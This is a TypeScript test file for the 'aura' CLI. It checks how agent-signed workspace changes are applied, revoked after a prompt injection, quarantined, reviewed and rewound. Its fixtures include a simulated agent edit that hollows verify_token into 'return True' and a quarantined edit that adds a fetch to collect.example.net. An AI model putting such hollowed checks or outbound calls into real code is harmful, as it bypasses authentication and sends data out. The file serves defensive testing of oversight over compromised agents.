// The workspace wired into one node, in-process (the CLI opens the node directly, no daemon):
// log-intent's baseline and deltas, records from another signer applied with `aura apply`
// only while effective (a revoked agent's record past its cut never touches the workspace),
// conflicts kept and shown, an agent's snapshot listed by `--author claude-...` and used as a
// rewind target, auto-apply into the recorded workspace, blobs that travel in `blob` records,
// and the refusals: no workspace, a node home inside the workspace, a file that does not parse.
import { cp, mkdir, mkdtemp, readFile, realpath, rm, writeFile } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Json } from '../../crdt/canonical.js'
import { keyPairFromSeed } from '../../crdt/crypto.js'
import { resolveAgent, loadAgentKey } from '../../node/agents/agents.js'
import { NodeRuntime } from '../../node/runtime.js'
import { IntentWriter } from '../../node/store/intent-writer.js'
import { MemorySeqReserve } from '../../node/store/seq-reserve.js'
import { NodeBlobStore, startAutoApply } from '../../node/workspace-node/index.js'
import { diffStates, scanWorkspace, type CodeDelta } from '../../node/workspace/index.js'
import { runCli } from '../cli/helpers.js'
import { documentedShapes, fieldsOf, vocabularyBreaches } from '../cli/vocabulary.js'
import { Writer, acceptAll } from '../crdt/record-fixtures.js'

const VERIFY = 'src/auth/verify.py'
const ORIGINAL = `import hmac


def verify_token(token, secret):
    if not token:
        return False
    return hmac.compare_digest(token, secret)


def normalize_username(name):
    return name.strip()
`

describe('workspace operations on one node', () => {
  let dir: string
  let home: string
  let ws: string
  let agent: string

  const aura = async (args: string[], cwd = ws): Promise<{ code: number, out: any, stderr: string }> => {
    const r = await runCli([...args, '--home', home, '--json'], { cwd })
    return { code: r.code, out: r.stdout.trim() === '' ? null : JSON.parse(r.stdout), stderr: r.stderr }
  }
  const ok = async (args: string[], cwd = ws): Promise<any> => {
    const r = await aura(args, cwd)
    if (r.code !== 0) throw new Error(`aura ${args.join(' ')} -> ${r.code}: ${JSON.stringify(r.out)} ${r.stderr}`)
    return r.out
  }
  const read = async (rel: string, root = ws): Promise<string> => await readFile(path.join(root, ...rel.split('/')), 'utf8')
  const write = async (rel: string, text: string, root = ws): Promise<void> => {
    await mkdir(path.dirname(path.join(root, ...rel.split('/'))), { recursive: true })
    await writeFile(path.join(root, ...rel.split('/')), text)
  }

  /** The delta another peer would record for `edit` made to a copy of the workspace as it is. */
  async function deltaOf (edit: (root: string) => Promise<void>): Promise<CodeDelta> {
    const copy = await mkdtemp(path.join(dir, 'copy-'))
    await cp(ws, copy, { recursive: true })
    const before = await scanWorkspace(copy)
    await edit(copy)
    const after = await scanWorkspace(copy)
    await rm(copy, { recursive: true, force: true })
    return diffStates(before.state, after.state).delta
  }

  /** Appends a record signed by the agent, as if received from its machine (not written by this node's commands). */
  async function agentRecord (text: string, delta: CodeDelta, opts: { pastCut?: boolean } = {}): Promise<string> {
    const rt = await NodeRuntime.open(home)
    try {
      const key = await loadAgentKey(rt, resolveAgent(rt, agent))
      if (opts.pastCut !== true) return (await rt.appendRecord({ kind: 'intent', actor: agent, text, delta: delta as unknown as Json }, key)).id
      // The runtime refuses to sign for a revoked key; a revoked machine's writer does not.
      const w = await IntentWriter.open({ intent: rt.store.intent, key, clock: { now: () => Date.now() }, seqs: new MemorySeqReserve() }, { host: 'elsewhere' })
      const a = await w.append({ kind: 'intent', actor: agent, auth: rt.authRef(), text, delta: delta as unknown as Json, data: null, refs: [] })
      await w.flush()
      return a.id
    } finally {
      await rt.close()
    }
  }

  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'aura-ws-node-'))
    home = path.join(dir, 'home')
    ws = path.join(dir, 'ws')
    await write(VERIFY, ORIGINAL)
    await write('web/util.ts', 'export function twice (n: number): number {\n  return n * 2\n}\n')
    await ok(['init'])
    await ok(['mothership', 'init', '--team', 'acme', '--user', 'ops'])
    agent = (await ok(['agent', 'issue', 'claude', '--role', 'maintainer'])).agent
  }, 60_000)

  afterAll(async () => { await rm(dir, { recursive: true, force: true }) })

  it('records no delta without a workspace, and refuses a node home inside the workspace', async () => {
    const empty = await mkdtemp(path.join(dir, 'empty-'))
    const plain = await ok(['log-intent', 'INCIDENT: nothing to do with code'], empty)
    expect(plain).toMatchObject({ kind: 'incident', workspace: null, changes: null })
    const rows = await ok(['trace', '--kind', 'incident'])
    expect(rows[0].delta).toBeNull()

    const inner = path.join(ws, 'node-home')
    expect((await runCli(['init', '--home', inner], { cwd: ws })).code).toBe(0)
    const r = await runCli(['log-intent', 'x', '--home', inner, '--workspace', ws, '--json'], { cwd: ws })
    expect(r.code).toBe(51)
    expect(JSON.parse(r.stdout).error).toMatchObject({ code: 'E_WORKSPACE' })
    await rm(inner, { recursive: true, force: true })
  })

  it('records a baseline first, then only the units changed; applies effective records of others, never quarantined ones', async () => {
    const first = await ok(['log-intent', 'start'])
    expect(first.baseline.files).toBe(2)
    const snapRecords = await ok(['trace', '--kind', 'snapshot'])
    expect(snapRecords.map((s: any) => s.id)).toContain(first.baseline.record)

    await write(VERIFY, ORIGINAL.replace('return name.strip()', 'return name.strip().lower()'))
    const local = await ok(['log-intent', 'lower-case usernames'])
    expect(local.changes).toMatchObject({ files: 1, units: 1 })
    const [row] = await ok(['trace', '--kind', 'intent'])
    expect(row.delta.entries.map((e: any) => `${e.change} ${e.path}:${e.name}`)).toEqual([`modified ${VERIFY}:normalize_username`])

    // The agent's change, received from its machine: pending until `aura apply` (apply = manual).
    const hollow = await deltaOf(async (root) => {
      const t = await read(VERIFY, root)
      await write(VERIFY, t.replace('    if not token:\n        return False\n    return hmac.compare_digest(token, secret)', '    return True'), root)
    })
    const effective = await agentRecord('simplify verify_token', hollow)
    expect((await ok(['status'])).workspace).toMatchObject({ apply: 'manual', pending: 1, conflicts: 0 })
    const dry = await ok(['apply', '--dry-run'])
    expect(dry.records[0]).toMatchObject({ record: effective, applied: 1 })
    expect(await read(VERIFY)).toContain('hmac.compare_digest')

    // Revoked (its cut is that record); its next record is past the cut, quarantined everywhere.
    await ok(['agent', 'revoke', agent, '--reason', 'prompt injection'])
    const wipe = await deltaOf(async (root) => {
      await write(VERIFY, (await read(VERIFY, root)).replace('def normalize_username(name):\n    return name.strip().lower()\n', ''), root)
      await write('web/util.ts', 'export function twice (n: number): number {\n  void fetch(`https://collect.example.net/${n}`)\n  return n * 3\n}\n', root)
    })
    const pastCut = await agentRecord('more cleanup', wipe, { pastCut: true })
    const status = (await ok(['trace', '--actor', agent])).find((r: any) => r.id === pastCut)
    expect(status).toMatchObject({ status: 'quarantined', reason: 'beyond_cut' })

    const applied = await ok(['apply'])
    expect(applied.records.map((r: any) => r.record)).toEqual([effective])
    expect(applied.records[0]).toMatchObject({ applied: 1, conflicts: [] })
    const now = await read(VERIFY)
    expect(now).toContain('def verify_token(token, secret):\n    return True\n')
    expect(now).toContain('return name.strip().lower()')
    expect(await read('web/util.ts')).toContain('n * 2')
    expect((await ok(['apply'])).records).toEqual([])
    expect((await ok(['status'])).workspace).toMatchObject({ pending: 0, conflicts: 0 })

    // The review sees both, the quarantined one marked; the baseline moved with the apply.
    const review = await ok(['pr-review', '--actor', agent, '--security'])
    expect(review.records.map((r: any) => [r.id, r.status])).toEqual([[effective, 'effective'], [pastCut, 'quarantined']])
    expect(review.flags.find((f: any) => f.recordId === effective && f.rule === 'security-function-hollowed')).toBeDefined()
    expect(review.flags.find((f: any) => f.recordId === pastCut && f.quarantined === 'beyond_cut')).toBeDefined()
    expect((await ok(['log-intent', 'no local edits'])).changes.units).toBe(0)

    // Rewind to the first intent (before any recorded change of verify_token): from the baseline snapshot.
    const r = await ok(['rewind', '--function', `${VERIFY}:verify_token`, '--to', first.id.slice(0, 8)])
    expect(r).toMatchObject({ changed: true, target: first.id })
    expect(await read(VERIFY)).toBe(ORIGINAL.replace('return name.strip()', 'return name.strip().lower()'))
    const again = await ok(['rewind', '--function', `${VERIFY}:verify_token`, '--to', first.id.slice(0, 8)])
    expect(again).toMatchObject({ changed: false, record: null })
  })

  it('keeps conflicts, shows them in status, and clears them', async () => {
    const change = await deltaOf(async (root) => {
      await write(VERIFY, (await read(VERIFY, root)).replace('name.strip().lower()', 'name.lower()'), root)
    })
    // A local, unrecorded edit of the same function: the received one must not overwrite it.
    await write(VERIFY, (await read(VERIFY)).replace('name.strip().lower()', 'name.casefold().strip()'))
    const local = await read(VERIFY)
    // A key that was never admitted: its record is quarantined (not_admitted), never applied.
    // It arrives from outside (a node never writes another member's records into its own
    // changes): merged as a carried file would be, through the log's verify-first entry point.
    const rt = await NodeRuntime.open(home)
    try {
      const stranger = new Writer('eve', keyPairFromSeed(new Uint8Array(32).fill(7))).write('from a stranger', { delta: change as unknown as Json, auth: rt.requireChain().head })
      await rt.writer.ingest(rt.store.intent.log.mergeRecords([stranger.bytes], acceptAll))
    } finally {
      await rt.close()
    }
    expect((await ok(['apply'])).records).toEqual([])
    expect(await read(VERIFY)).toBe(local)

    // From an admitted signer (an agent key, the other signer this node holds): a conflict.
    const agent2 = (await ok(['agent', 'issue', 'helper', '--role', 'maintainer'])).agent
    const rt2 = await NodeRuntime.open(home)
    const key = await loadAgentKey(rt2, resolveAgent(rt2, agent2))
    const theirs = (await rt2.appendRecord({ kind: 'intent', text: 'shorter normalize', actor: agent2, delta: change as unknown as Json }, key)).id
    await rt2.close()
    const res = await ok(['apply'])
    expect(res.records[0].conflicts[0]).toMatchObject({ recordId: theirs, path: VERIFY, name: 'normalize_username', reason: 'changed-locally' })
    expect(await read(VERIFY)).toContain('name.casefold().strip()')
    const raw = await runCli(['status', '--json', '--home', home], { cwd: ws })
    expect(raw.code).toBe(7)
    const st = JSON.parse(raw.stdout)
    expect(st.workspace.conflicts).toBe(1)
    expect(st.problems.map((p: any) => p.code)).toContain('E_CONFLICT')
    const text = await runCli(['status', '--home', home], { cwd: ws })
    expect(text.stdout).toContain('E_CONFLICT: 1 received change not applied')
    const conflicts = await ok(['conflicts'])
    expect(conflicts.map((c: any) => c.recordId)).toEqual([theirs])
    // Exactly the fields docs/cli.md's JSON shapes table lists, and no epoch-ms time.
    const doc = documentedShapes(await readFile(new URL('../../docs/cli.md', import.meta.url), 'utf8')).find((d) => d.words === 'conflicts')
    expect(fieldsOf(conflicts)).toEqual(doc!.fields.slice().sort())
    expect(vocabularyBreaches(conflicts)).toEqual([])
    expect(await ok(['conflicts', '--clear', theirs.slice(0, 8)])).toEqual([])
    expect((await ok(['status'])).workspace.conflicts).toBe(0)
  })

  it('lists an agent\'s snapshots by --author and rewinds to one; refuses to rewind in a file that does not parse', async () => {
    const worker = (await ok(['agent', 'issue', 'claude2', '--role', 'maintainer'])).agent
    const before = await read(VERIFY)
    const snap = await ok(['snapshot', 'auth', '--agent', worker, '--reason', 'pre-edit'], path.join(ws, 'src'))
    expect(snap).toMatchObject({ author: worker, files: 1, paths: [VERIFY] })
    const listed = await ok(['snapshot-list', '--author', worker])
    expect(listed.map((s: any) => [s.id, s.reason, s.author])).toEqual([[snap.id, 'pre-edit', worker]])
    expect(await ok(['snapshot-list', '--author', worker, '--path', 'web'])).toEqual([])

    await write(VERIFY, before.replace('def normalize_username(name):', 'def normalize_username(name, strict=False):'))
    const r = await ok(['rewind', '--function', `${VERIFY}:normalize_username`, '--to', snap.id.slice(0, 10)])
    expect(r).toMatchObject({ changed: true, targetSnapshot: snap.id })
    expect(await read(VERIFY)).toBe(before)

    const broken = before.replace('def verify_token(token, secret):', 'def verify_token(token, secret:')
    await write(VERIFY, broken)
    const e = await aura(['rewind', '--function', `${VERIFY}:normalize_username`, '--to', snap.id.slice(0, 10)])
    expect(e.code).toBe(50)
    expect(e.out.error.code).toBe('E_PARSE')
    expect(await read(VERIFY)).toBe(broken)
    await write(VERIFY, before)
  })

  it('auto-applies into the workspace the node records from, when [workspace] path is unset', async () => {
    const writer = (await ok(['agent', 'issue', 'autowriter', '--role', 'maintainer'])).agent
    const change = await deltaOf(async (root) => {
      await write('web/util.ts', (await read('web/util.ts', root)).replace('n * 2', 'n + n'), root)
    })
    const notes: string[] = []
    const rt = await NodeRuntime.open(home, { flags: { 'workspace.apply': 'auto' } })
    const auto = await startAutoApply(rt, { fail: (err) => notes.push(String(err)), note: (m) => notes.push(m) })
    try {
      expect(auto).not.toBeNull()
      expect(await auto!.root()).toBe(await realpath(ws))
      const key = await loadAgentKey(rt, resolveAgent(rt, writer))
      await rt.appendRecord({ kind: 'intent', text: 'readable twice', actor: writer, delta: change as unknown as Json }, key)
      auto!.kick()
      for (let i = 0; i < 100 && !(await read('web/util.ts')).includes('n + n'); i++) await new Promise((resolve) => setTimeout(resolve, 50))
      expect(await read('web/util.ts')).toContain('n + n')
    } finally {
      await auto?.stop()
      await rt.close()
    }
    expect(notes).toEqual([])
  })

  it('puts unit texts over 16 KiB in blobs that any node can read from the log', async () => {
    const big = `def big_table():\n    return [\n${Array.from({ length: 900 }, (_, i) => `        ${i * 7919},  # entry ${i}\n`).join('')}    ]\n`
    await write('src/table.py', big)
    const r = await ok(['log-intent', 'add the big table'])
    expect(r.changes.blobs).toBeGreaterThan(0)
    const [row] = await ok(['trace', '--kind', 'intent'])
    const entry = row.delta.entries.find((e: any) => e.name === 'big_table')
    expect(entry.text).toBeNull()
    expect(entry.blob).toMatch(/^[0-9a-f]{64}$/)
    const carriers = await ok(['trace', '--kind', 'blob'])
    expect(carriers.length).toBeGreaterThan(0)
    // A node that never stored the blob on disk (another home) reads it from the blob record.
    const rt = await NodeRuntime.open(home)
    try {
      const elsewhere = new NodeBlobStore(path.join(dir, 'other-home'), rt.store.intent.log)
      const bytes = await elsewhere.get(entry.blob)
      expect(new TextDecoder().decode(bytes as Uint8Array)).toContain('# entry 899')
      expect(await elsewhere.disk.has(entry.blob)).toBe(true)
    } finally {
      await rt.close()
    }
  })
})
